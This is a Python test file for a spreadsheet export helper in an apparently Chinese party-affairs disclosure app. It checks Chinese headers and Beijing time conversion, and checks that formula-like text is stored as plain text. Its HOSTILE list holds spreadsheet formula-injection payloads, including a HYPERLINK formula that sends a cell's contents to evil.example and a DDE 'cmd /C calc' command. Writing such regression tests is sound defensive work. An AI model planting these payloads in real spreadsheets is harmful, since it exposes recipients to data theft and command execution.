import datetime
from io import BytesIO

from openpyxl import load_workbook

from dangjian.excel import xlsx_response


def test_xlsx_download_keeps_chinese_headers_rows_and_beijing_time():
    published = datetime.datetime(2026, 7, 1, 1, 30, tzinfo=datetime.timezone.utc)  # 09:30 in Beijing
    response = xlsx_response(
        "2026年党务公开.xlsx",
        ["索引号", "标题", "发布时间"],
        [["DW020-2026-0001", "关于召开会议的通知", published]],
        "党务公开",
    )
    assert (
        response["Content-Disposition"]
        == "attachment; filename*=UTF-8''2026%E5%B9%B4%E5%85%9A%E5%8A%A1%E5%85%AC%E5%BC%80.xlsx"
    )
    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet.title == "党务公开"
    assert [cell.value for cell in sheet[1]] == ["索引号", "标题", "发布时间"]
    assert sheet["B2"].value == "关于召开会议的通知"
    assert sheet["C2"].value == datetime.datetime(2026, 7, 1, 9, 30)


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点此核对")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"]


def test_text_that_looks_like_a_formula_is_stored_as_text():
    response = xlsx_response("名单.xlsx", ["姓名", "时长"], [[name, 2] for name in HOSTILE])
    sheet = load_workbook(BytesIO(response.content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == HOSTILE  # every character kept
    assert {cell.data_type for cell in cells} == {"s"}  # and none is a formula
    assert sheet["B2"].value == 2 and sheet["B2"].data_type == "n"  # numbers stay numbers
